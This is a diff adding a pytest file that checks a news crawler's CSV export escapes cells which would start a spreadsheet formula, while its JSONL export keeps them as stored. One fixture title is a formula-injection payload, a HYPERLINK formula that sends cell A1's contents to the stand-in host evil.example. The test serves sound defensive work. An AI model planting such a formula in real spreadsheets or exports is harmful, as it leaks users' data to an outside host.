@@ -1,0 +1,39 @@
+"""`newswatch export` as a spreadsheet opens it: scraped text that would start a formula stays text."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+from click.testing import CliRunner
+
+from crawler.store import Store
+from scheduler.cli import cli
+from tests.support.articles import article_record
+
+TITLES = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+    "-40 °C in Yakutsk: the cold-weather test site opens",
+    "+7 per cent: Sino-Russian trade",
+    "@Rosatom on the new reactor",
+    "＝1+1 in full width",
+    "Russia and China sign a research agreement",
+]
+
+
+def test_csv_cells_that_would_start_a_formula_are_text_and_jsonl_keeps_them_as_stored(tmp_path: Path) -> None:
+    cfg = tmp_path / "c.toml"
+    cfg.write_text('[storage]\ndatabase = "nw.db"\n', encoding="utf-8")
+    with Store(tmp_path / "nw.db") as store:
+        for n, title in enumerate(TITLES):
+            store.add_article(article_record(n, title, "=1+2 " + title if n == 0 else "Text.\nTwo lines."))
+    out = CliRunner().invoke(cli, ["-c", str(cfg), "export", "--format", "csv", "--bom"])
+    assert out.exit_code == 0, out.output
+    rows = list(csv.DictReader(io.StringIO(out.output.removeprefix("\ufeff"))))
+    assert [r["title"] for r in rows] == ["'" + t for t in TITLES[:5]] + [TITLES[5]]
+    assert rows[0]["text"].startswith("'=1+2 ") and rows[1]["text"] == "Text.\nTwo lines."
+    assert all(r["url"].startswith("https://") for r in rows)
+    jsonl = CliRunner().invoke(cli, ["-c", str(cfg), "export"])
+    assert [json.loads(line)["title"] for line in jsonl.output.splitlines()] == TITLES
